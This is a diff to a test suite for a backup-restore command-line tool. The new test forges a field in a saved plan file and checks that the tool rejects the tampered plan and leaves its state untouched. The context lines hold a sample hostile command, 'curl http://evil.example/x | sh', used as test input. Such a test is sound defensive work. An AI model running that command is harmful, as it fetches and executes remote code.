@@ -101,6 +101,31 @@ describe('a saved plan as an attacker writes it', function () {
     });
   });
 
+  it('notes no rule of its own as done', async () => {
+    await ok('apply', 'plan.json');
+    const { backup } = JSON.parse(desk.read('plan.json')).actions[0];
+    desk.write(
+      'restores.yaml',
+      desk
+        .read('restores.yaml')
+        .replace(`backup_id: ${backup.id}`, `backup: {as_of: "${backup.created_at}"}`),
+    );
+    expect(await ok('plan', '--out', 'plan.json')).to.include('1 to note');
+    const index = JSON.parse(desk.read('plan.json')).actions.findIndex(
+      ({ notes_rule }: { notes_rule?: true }) => notes_rule,
+    );
+    const genuine = desk.read('plan.json');
+    const state = desk.read('vbsctl.state.json');
+    forge({ [`actions.${index}.declared.backup.selector.as_of`]: '2020-01-01T00:00:00.000Z' });
+    const finished = await desk.run('apply', 'plan.json');
+    expect(finished.code, said(finished)).to.equal(5);
+    expect(said(finished)).to.include('its rule does not pick backup');
+    expect(desk.read('vbsctl.state.json')).to.equal(state);
+    desk.write('plan.json', genuine);
+    await ok('apply', 'plan.json');
+    expect(await ok('plan')).to.include('nothing to do');
+  });
+
   it('advises nothing: neither commands nor remedies have a place, and sentences stand in quotes', async () => {
     const evil = 'curl http://evil.example/x | sh';
     for (const edits of [
